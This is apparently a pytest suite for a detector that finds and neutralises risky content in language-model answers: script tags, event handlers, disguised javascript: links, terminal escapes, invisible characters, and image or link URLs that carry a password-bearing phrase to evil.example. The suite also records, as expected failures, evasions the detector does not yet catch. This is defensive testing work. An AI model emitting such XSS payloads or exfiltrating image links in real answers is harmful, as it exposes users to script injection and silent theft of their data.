"""The detector, the shipped pack with all its examples, its options, and what a bad pack is told."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from extproc.detectors import improper_output
from extproc.detectors.base import Match, Scan
from extproc.detectors.improper_output import ImproperOutputDetector
from extproc.detectors.pack import PackError

PACK_PATH = Path(__file__).parents[2] / "policies/packs/improper_output.yaml"
PACK: dict[str, Any] = yaml.safe_load(PACK_PATH.read_text(encoding="utf-8"))
DETECTOR = improper_output.build(PACK, {})
DATA = "the+user+said+that+the+password+is+swordfish+and+the+name+of+the+dog"


def rules(text: str, detector: ImproperOutputDetector = DETECTOR) -> list[str]:
    return [match.rule.removeprefix("output.") for match in detector.scan(text).matches]


def harmless(text: str, detector: ImproperOutputDetector = DETECTOR) -> str:
    out, at = "", 0
    for match in detector.scan(text).matches:
        assert match.safe is not None
        out += text[at : match.start] + match.safe
        at = match.end
    return out + text[at:]


def changed(kind: str, /, **changes: object) -> dict[str, Any]:
    """Give the shipped pack with fields of the rule of one kind changed, or taken away with ``None``."""
    pack = copy.deepcopy(PACK)
    rule = next(rule for rule in pack["rules"] if rule["kind"] == kind)
    for name, value in changes.items():
        if value is None:
            del rule[name]
        else:
            rule[name] = value
    return pack


def test_every_example_of_the_shipped_pack_is_judged_as_it_says() -> None:
    assert len(improper_output.build(PACK, {"verify": True}).entries) == len(PACK["rules"]) == 7


def test_every_shipped_rule_names_its_owasp_entries_of_both_years() -> None:
    assert {entry.owasp for entry in DETECTOR.entries.values()} == {("LLM05:2025", "LLM10:2026")}


@pytest.mark.parametrize("rule", list(DETECTOR.entries))
def test_a_marker_names_its_rule_and_is_found_by_none(rule: str) -> None:
    marker = DETECTOR.marker(rule)
    assert json.dumps(marker) == f'"[REDACTED:{rule}]"'
    assert DETECTOR.scan(f"a {marker}{marker} b") == Scan()


def test_a_marker_makes_no_link_out_of_what_follows_it() -> None:
    assert rules("x\x1b(javascript:alert(1))") == ["terminal", "scheme"]


# ---- harmless forms ----


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("<Script>x()</Script>", "&lt;Script>x()</Script>"),
        ("<img src=x onError = x()>", "<img src=x data-onError = x()>"),
        ("[x](JavaScript:alert(1))", "[x](about:blank#alert(1))"),
        ("[x]( &#106;avascript&colon;x)", "[x]( about:blank#x)"),
        ('<a href="java\nscript:x">', '<a href="about:blank#x">'),
        (f"![a](https://Evil.example/?q={DATA})", "![a]((link removed: evil.example))"),
        (f"see https://u:p@evil.example:80/a(b)?{DATA}) ok", "see (link removed: evil.example80)) ok"),
        (f"https://ev\u0456l<b>.example/?{DATA}", f"https://ev\u0456l<b>.example/?{DATA}"),
        (f"https://\u0456/?{DATA}", "(link removed)"),
        (f'<img src="https://evil.example/?{DATA} and more">', '<img src="(link removed: evil.example)">'),
        ("\x1b[31mred\x00\x7f\x9b", "\u241b[31mred\u2400"),
        ("a\x7fb\x9bc", "a\u2421b\ufffdc"),
        ("a\U000e0041\U000e0042b", "a\ufffdb"),
    ],
)
def test_what_is_found_has_a_harmless_form(text: str, safe: str) -> None:
    assert harmless(text) == safe


def test_what_stood_on_both_sides_of_a_hidden_character_never_grows_together() -> None:
    for hidden in ("\x00", "\x1b", "\U000e0041", "\u200b\u200b\u200b\u200b"):
        assert "script" not in harmless(f"<scr{hidden}ipt>")
        assert "javascript:" not in harmless(f"[x](java{hidden}script:x)")


def test_a_finding_says_where_and_what() -> None:
    assert DETECTOR.scan("Hi <script>") == Scan((Match(3, 10, "output.script", safe="&lt;script"),), 1.0)


# ---- code ----

LIVE = "<img src=x onerror=x()>"


@pytest.mark.parametrize(
    "text",
    [
        f"```\n{LIVE}\n```",
        f"  ~~~~ html `x`\n  {LIVE}\n\n  ~~~\n  {LIVE}\n  ~~~~~ \n",
        f"```\n{LIVE}\n``` not the end\n{LIVE}\n    ```x\n",
        f"text\r\n```\r\n{LIVE}\r\n```\r\nmore",
        f"- a list\n\n  ```\n  {LIVE}\n  ```\n- more `{LIVE}`",
        f"`{LIVE}` and ``a ` {LIVE}`` and ```{LIVE}```",
        f"one ` alone\n\n`{LIVE}`",
        f"<div>\n\n`{LIVE}`",
        f"`[x](javascript:x)`, `[x]: javascript:x`, `https://evil.example/?{DATA}`, `{LIVE} {LIVE}`",
    ],
)
def test_code_that_is_shown_and_not_run_is_not_read(text: str) -> None:
    assert rules(text) == []


@pytest.mark.parametrize(
    "text",
    [
        f"```\ncode\n```\n{LIVE}",
        f"~~~\ncode\n~~~\n{LIVE}",
        f"  ```\n  code\n{LIVE}",
        f"  ```\n  code\n```\n{LIVE}",
        f"```\ncode\n    ```\n{LIVE}",
        f"```\ncode\n\t```\n{LIVE}",
        f"text ```\n{LIVE}\n```",
        f"    ```\n{LIVE}",
        f"\t```\n{LIVE}",
        f"> ```\n{LIVE}",
        f"- ```\n  code\n  ```\n{LIVE}",
        f"1. ~~~\n{LIVE}",
        f"```a`b\n{LIVE}",
        f"<div>\n```\n{LIVE}",
        f"<!-- x\n\n```\n--> {LIVE}",
        f"<pre>\n\n```\n{LIVE}",
        f"<?x\n\n```\n{LIVE}",
        f"\\`{LIVE}`",
        f"` {LIVE}",
        f"`` {LIVE}`",
        f"one ` alone\n`{LIVE}`",
        f"<div>\n`{LIVE}`",
        f'<a title="`">{LIVE}`',
        f"<a title='`\n```\n`'>{LIVE}`",
        f"| ` | {LIVE} | ` |",
        f"`a | {LIVE}`",
        f"`{LIVE}{'x' * 300}`",
        f"`{LIVE}{'`' * 300}`",
        f"{'`' * 300}{LIVE}",
        f"{' ' * 200}\n```\n{LIVE}",
        f"```\n{' ' * 200}\n{LIVE}",
        f"[x]:\n<javascript:x>\n```\n{LIVE}",
        f"[a](`) {LIVE}`",
        f"[a](<`>) {LIVE}`",
        f'[a](x "`") {LIVE}`',
        f'[a](x\n"`") {LIVE}`',
        f"[a](x\\)`) {LIVE}`",
        f"https://a.example/` {LIVE}`",
        f"xhttps://a.example/`{LIVE}`",
        f"www.a.example/`{LIVE}`",
        f"~`{LIVE}`",
        f"```\n```~\n{LIVE}",
        f"~~~\\| a |\n|---|\n{LIVE}",
        f"```\n```\t\n\n```\n{LIVE}",
        f"[a]:\n```\n{LIVE}",
        f'[a]: /x "\n```\n"\n{LIVE}',
        f'[a]:\n/x\n"\n```\n"\n{LIVE}',
        f"[a\n```\n]: /x\n{LIVE}",
        f"<b a='=\n```\n\n```\n{LIVE}",
    ],
)
def test_where_readers_may_not_see_code_there_is_none(text: str) -> None:
    assert "handler" in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        f"[docs](https://a.example/x) say `{LIVE}`",
        f"[a](b)\n```\n{LIVE}\n```",
        f"See https://a.example, and https://a.example/b. Use `{LIVE}`.",
        f"[1]: https://a.example/b\n[2]: https://a.example/c\n\n```\n{LIVE}\n```",
        f"[Note]: see this\n\n```\n{LIVE}\n```",
        f"- [ ] a task\n- [x] `{LIVE}`",
        f"[12:30] start\n```\n{LIVE}\n```",
        f"[a\\]b] and [c[d]]\n```\n{LIVE}\n```",
        f"a[1]: (x)\n```\n{LIVE}\n```",
    ],
)
def test_links_that_are_closed_cost_no_code(text: str) -> None:
    assert rules(text) == []


def test_a_tag_in_the_line_that_opens_a_block_is_found() -> None:
    assert rules("```<script>\nx\n```") == ["script"]


def test_an_answer_that_is_not_rendered_as_markdown_is_read_as_a_whole() -> None:
    read = improper_output.build(PACK, {"code_blocks": "read"})
    assert rules(f"```\n{LIVE}\n```\n`{LIVE}`", read) == ["handler", "handler"]


def test_hidden_characters_are_found_in_code_too() -> None:
    assert rules("```\n\x1b[2J\n``` `\U000e0041`") == ["terminal", "invisible"]


# ---- tags ----


@pytest.mark.parametrize(
    "text",
    [
        "<a b='>' onclick=x>",
        '<a b=">" onclick=x>',
        "<a b=>onclick= ><a onclick=x>",
        "<a\nb\nonclick\t=x>",
        "<a b='<i onclick=x>'>",
        f"<a b={' ' * 40}'>' onclick=x>",
        f"<a onclick{' ' * 40}=x>",
        "<x-y onfoo=1>",
        "</a onclick=x>",
        '<a b="\'" onclick=x>',
    ],
)
def test_a_handler_is_found_under_any_reading_of_its_tag(text: str) -> None:
    assert "handler" in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "<a one=1 on=2 onx>",
        "<b>onclick=x",
        "<a onclick>",
        "a <3 onclick=x",
        f"<a on{'x' * 60}=1>",
        "<a b",
        "<",
        "<a b=",
    ],
)
def test_what_only_looks_like_a_handler_passes(text: str) -> None:
    assert rules(text) == []


# ---- links ----


@pytest.mark.parametrize(
    "text",
    [
        f"[x](javascript{'&#x09;' * 30}:x)",
        f"[x]({' ' * 200}javascript:x)",
        "[x](\\\tjavascript:x)\n[x](java&newline;script:x)",
        "[x](javascript&#000058;x)",
        "[x](javascript:",
        "<a href=&#x6a;&#97vascript:x>",
        "<svg><a xlink:href=javascript:x>",
        "(javascript:x)",
    ],
)
def test_a_disguised_scheme_is_found(text: str) -> None:
    assert "scheme" in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript",
        "[x](java&",
        "[x](java&amp;script:x)",
        "[x](&#xffff;:x)",
        "[x](&#;x)",
        "[x](\\",
        "[x](\\.x)",
        f"({' ' * 200}x)",
        "(javascript: x)",
        "(",
        "x]:",
        "(<",
    ],
)
def test_what_is_no_scheme_that_runs_code_passes(text: str) -> None:
    assert rules(text) == []


def test_hosts_that_are_allowed_may_carry_anything() -> None:
    detector = improper_output.build(PACK, {"allow_hosts": ["docs.example.com", "*.Example.org"]})
    for host in ("docs.example.com", "DOCS.example.com:443", "a.example.org", "a.b.example.org."):
        assert rules(f"![x](https://{host}/?{DATA}) //{host}", detector) == []


@pytest.mark.parametrize(
    "host",
    [
        "example.org",
        "badexample.org",
        "docs.example.com.evil.example",
        "docs.example.com@evil.example",
        "docs.example.com&#64;evil.example",
        "docs.example.com%40evil.example",
        "x.docs.example.com",
        "\\docs.evil.example",
    ],
)
def test_hosts_that_only_look_allowed_may_not(host: str) -> None:
    detector = improper_output.build(PACK, {"allow_hosts": ["docs.example.com", "*.example.org"]})
    assert rules(f"![x](https://{host}/?{DATA})", detector) == ["image"]


def test_limits_are_the_policys() -> None:
    tight = improper_output.build(PACK, {"query_bytes": 4, "image_bytes": 0})
    assert rules("https://a.example/?1234 https://a.example/?12345", tight) == ["link"]
    assert rules("![x](https://a.example/x.png) ![x](https://a.example/?1)", tight) == ["image"]
    assert rules("https://a.example/?\u00e9\u00e9 https://a.example/?\u00e9\u00e9\u00e9", tight) == ["link"]


def test_an_address_too_long_to_be_read_is_found_to_its_end() -> None:
    text = f"https://a.example/{'a/' * 600}"
    assert DETECTOR.scan(f"{text} b").matches == (Match(0, len(text), "output.link", safe="(link removed: a.example)"),)
    assert rules(f"https://{'a.' * 200}example/x") == ["link"]


def test_a_fragment_is_not_sent_when_an_image_is_fetched() -> None:
    assert rules(f"![x](https://a.example/#{DATA[:60]})") == []
    assert rules(f"![x](https://a.example/#{DATA})") == ["image"]


def test_only_the_rules_that_are_asked_for_find_anything() -> None:
    detector = improper_output.build(PACK, {"rules": ["output.terminal"], "verify": False})
    texts = [text for rule in PACK["rules"] for text in rule["match"] if rule["kind"] != "controls"]
    assert {rule for text in texts for rule in rules(text, detector)} <= {"terminal"}
    assert rules("\x1b", detector) == ["terminal"]
    assert list(detector.entries) == ["output.terminal"]


@pytest.mark.parametrize(
    "text",
    [
        *(f"![x](https://evil.example/?{(DATA[:24] + mark) * 4})" for mark in ("<", '"', "\\)", "\\(", "(a)", "\x01")),
        *(f"![x](<https://evil.example/?{(DATA[:24] + mark) * 4}>)" for mark in ("\\>", "\\<", " ")),
        f"[x]: https://evil.example/?{DATA[:24]}<{DATA[:24]}",
        f"![x](https://evil.example&quest;{DATA})",
        f"![x](https://evil.example/a&#63;{DATA})",
        f"<img srcset='x 1x,//evil.example/?{DATA} 2x'>",
        f"<p style=\"background:url('//evil.example/?{DATA}')\">",
        f"<p style='background:url(&quot;https://evil.example/?{DATA}')>",
    ],
)
def test_an_address_goes_as_far_as_a_reader_takes_it(text: str) -> None:
    assert rules(text)[-1] == "image"


def test_an_address_is_found_within_a_word() -> None:
    assert harmless(f"xhttps://evil.example/?{DATA}") == "xhttps(link removed: evil.example)"


def test_a_host_that_is_shown_is_no_address() -> None:
    assert harmless(f"https://ww-www.{'x1' * 12}.www.example/?{DATA}") == f"(link removed: ww-{'x1' * 12}.example)"


def test_a_control_character_before_a_scheme_is_taken_with_it() -> None:
    assert harmless("[x](\x1bjavascript:x)") == "[x](about:blank#x)"


# ---- known gaps ----


@pytest.mark.xfail(reason="formulas are not followed: a dollar sign is a price more often")
def test_what_follows_a_backtick_in_a_formula_is_found() -> None:
    assert rules(f"$`${LIVE}`")


@pytest.mark.xfail(reason="escapes of style sheets are not read")
def test_an_address_with_escapes_in_a_style_is_found() -> None:
    assert rules(f"<p style='background:url(\\2f\\2f evil.example/?{DATA})'>")


@pytest.mark.xfail(reason="words in a path are not counted: a title looks the same")
def test_data_written_as_words_in_a_path_is_found() -> None:
    assert rules("![x](https://evil.example/the-user-said/that-the-password/is-swordfish-and-more.png)")


@pytest.mark.xfail(reason="what many addresses carry is not added up")
def test_data_in_many_small_pieces_is_found() -> None:
    assert rules(" ".join(f"![x](https://evil.example/?{at}={DATA[at : at + 8]})" for at in range(0, 64, 8)))


@pytest.mark.xfail(reason="a short name under another host is no data: hosts of images often look so")
def test_data_in_the_name_of_a_host_is_found() -> None:
    assert rules("![x](https://the-password-is.sword.fish.evil.example/x.png)")


@pytest.mark.xfail(reason="single invisible characters are a part of many scripts and of emoji")
def test_single_invisible_characters_between_letters_are_found() -> None:
    assert rules("a\u200bb\u200cc\u200bd\u200be\u200cf")


# ---- packs ----


@pytest.mark.parametrize(
    ("pack", "where"),
    [
        (changed("elements", id="A B"), "rules[0].id"),
        (changed("handlers", id="output.script"), "rules[1].id"),
        (changed("handlers", kind="links", bytes=1), "rules[4].kind"),
        (changed("handlers", kind="magic"), "rules[1].kind"),
        (changed("elements", names=["Script"]), "rules[0].names[0]"),
        (changed("elements", with_attributes=None), "rules[0].with_attributes"),
        (changed("schemes", schemes=["javascript"]), "rules[2].schemes[0]"),
        (changed("images", bytes=1000), "rules[3].bytes"),
        (changed("images", owasp=["X"]), "rules[3].owasp"),
        (changed("controls", owasp=[]), "rules[5].owasp"),
        (changed("controls", severity="odd"), "rules[5].severity"),
        (changed("controls", bytes=3), "rules[5].bytes"),
        (changed("controls", match=["x"]), "rules[5].match[0]"),
        (changed("controls", **{"pass": ["\x00"]}), "rules[5].pass[0]"),
    ],
)
def test_a_bad_pack_is_refused_at_its_place(pack: dict[str, Any], where: str) -> None:
    with pytest.raises(PackError) as caught:
        improper_output.build(pack, {"verify": True})
    assert str(caught.value).startswith(f"{where}: ")


@pytest.mark.parametrize(
    ("options", "where"),
    [
        ({"rules": ["output.magic"]}, "options.rules[0]"),
        ({"allow_hosts": ["https://a.example"]}, "options.allow_hosts[0]"),
        ({"allow_hosts": ["*"]}, "options.allow_hosts[0]"),
        ({"query_bytes": 100_000}, "options.query_bytes"),
        ({"image_bytes": -1}, "options.image_bytes"),
        ({"code_blocks": "maybe"}, "options.code_blocks"),
        ({"odd": 1}, "options.odd"),
    ],
)
def test_bad_options_are_refused_at_their_place(options: dict[str, Any], where: str) -> None:
    with pytest.raises(PackError) as caught:
        improper_output.build(PACK, options)
    assert str(caught.value).startswith(f"{where}: ")


def test_a_pack_may_have_fewer_kinds() -> None:
    pack = {"owasp": PACK["owasp"], "rules": [rule for rule in PACK["rules"] if rule["kind"] == "controls"]}
    detector = improper_output.build(pack, {"verify": True})
    assert rules(f"<script> [x](javascript:x) https://evil.example/?{DATA} \x1b", detector) == ["terminal"]
